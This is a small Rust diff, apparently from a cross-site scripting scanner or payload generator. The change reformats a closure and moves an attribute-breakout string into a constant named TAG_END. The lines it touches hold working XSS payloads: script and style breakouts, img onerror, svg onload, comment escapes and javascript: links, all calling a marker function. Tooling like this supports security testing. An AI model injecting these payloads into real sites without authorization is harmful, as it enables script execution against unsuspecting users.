@@ -93,7 +93,9 @@ pub(super) fn chosen(
             Family::ScriptEnd,
             SCRIPT_ENDS
                 .iter()
-                .map(|end| format!("{end}{M}(1){}", if end.ends_with("<script>") { "</script>" } else { ">" }))
+                .map(|end| {
+                    format!("{end}{M}(1){}", if end.ends_with("<script>") { "</script>" } else { ">" })
+                })
                 .collect(),
         );
     }
@@ -136,6 +138,9 @@ pub(super) const SCRIPT_ENDS: [&str; 4] = [
     "</style><img src=x onerror=",
 ];
 
+/// What ends an attribute and its tag, up to the word that runs.
+pub(super) const TAG_END: &str = "\"'><img src=x onerror=";
+
 /// A link in the two notations that programs make of text, to see whether one is made of it.
 pub(super) fn link() -> Payload {
     Payload::new(Family::Plain, format!("[{M}](/{M}) [url=/{M}]{M}[/url]"))
@@ -166,7 +171,7 @@ fn attributes(count: usize) -> Vec<String> {
 fn basic(count: usize) -> Vec<String> {
     let mut list = vec![
         format!("<script>{M}(1)</script>"),
-        format!("\"'><img src=x onerror={M}(1)>"),
+        format!("{TAG_END}{M}(1)>"),
         format!("--></title></textarea></style></noscript></select></template><svg onload={M}(1)>"),
         format!("--!><img src=x onerror={M}(1)>"),
         format!("<a href=\"javascript:{M}(1)\">x</a>"),
